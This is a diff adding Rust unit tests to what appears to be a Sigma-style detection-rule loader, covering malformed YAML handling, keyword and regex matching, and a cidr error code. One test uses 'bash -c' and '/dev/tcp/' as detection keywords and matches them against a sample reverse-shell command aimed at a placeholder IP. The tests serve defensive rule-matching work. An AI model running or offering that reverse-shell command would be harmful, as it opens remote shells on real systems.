@@ -919,6 +919,31 @@ summary: 'Brute force from {{{{ details.sourceipaddress }}}}: {{{{count}}}} fail
         assert!(!m(&d, json!({"details": {"user": "alice"}})));
     }
 
+    #[test]
+    fn odd_yaml_never_panics_and_always_explains() {
+        let inputs = [
+            "", "---", "---\n---\n", "...", "- a", "a", "{", "[", "a: &x 1\nb: *x", "b: *x", "!!str a: b", "? [a]\n: b",
+            "title: t\ndetection: !!map {}", "\t- x", "title: 'unterminated", "title: t\ndetection:\n  s: [\n", "a: b: c",
+            "title: t\ndetection:\n  s:\n    - a: 1\n    - b\n  condition: s\n", "title: t\ndetection:\n  s: ''\n  condition: s\n",
+            "title: t\ndetection:\n  s: []\n  condition: s\n", "title: t\ndetection:\n  s:\n    a: []\n  condition: s\n",
+            "title: t\ndetection:\n  s:\n    a: 1\n  condition: [[s]]\n", "title: t\ncorrelation: []\n",
+            "title: t\ndetection:\n  s:\n    a: 1\n  condition: '0 of them'\n",
+        ];
+        for text in inputs {
+            match load_str("odd.yml", text) {
+                Ok(set) => assert!(set.is_empty() || text.contains("title"), "{text:?} loaded {set:?}"),
+                Err(d) => {
+                    assert!(d.has_errors(), "{text:?}");
+                    for e in d.errors() {
+                        assert!(!e.message.is_empty() && e.line >= 1 && e.column >= 1, "{text:?}: {e:?}");
+                    }
+                }
+            }
+        }
+        assert!(load_str("empty.yml", "").unwrap().is_empty(), "an empty file is an empty set");
+        assert!(load_str("c.yml", "# only a comment\n---\n").unwrap().is_empty());
+    }
+
     // ---- matching semantics ----
 
     #[test]
@@ -1071,6 +1096,15 @@ summary: 'Brute force from {{{{ details.sourceipaddress }}}}: {{{{count}}}} fail
             let d = det(&format!("{base}  condition: {cond}\n"));
             assert_eq!(m(&d, doc.clone()), want, "{cond} on {doc}");
         }
+        // '|all' keyword lists: every keyword somewhere in the event
+        let d = det("  keywords:\n    '|all':\n      - 'bash -c'\n      - '/dev/tcp/'\n  condition: keywords\n");
+        assert!(m(&d, json!({"details": {"cmd": "BASH -c 'x >& /dev/tcp/1.2.3.4/80'"}})));
+        assert!(m(&d, json!({"a": "bash -c", "b": ["/dev/tcp/x"]})), "keywords may sit in different fields");
+        assert!(!m(&d, json!({"a": "bash -c id"})));
+        let d = det("  k:\n    '|re': 'ab+c'\n  condition: k\n");
+        assert!(m(&d, json!({"x": {"y": "zabbc"}})));
+        assert!(!m(&d, json!({"x": "ac"})));
+        assert_eq!(one_err("title: t\ndetection:\n  k:\n    '|cidr': 10.0.0.0/8\n  condition: k\n").code, "R109");
         let d = det(&format!("{base}  condition:\n    - sel\n    - filter_y\n"));
         assert!(m(&d, json!({"c": 1})), "a condition list is an OR");
         assert!(!m(&d, json!({"b": 1})));
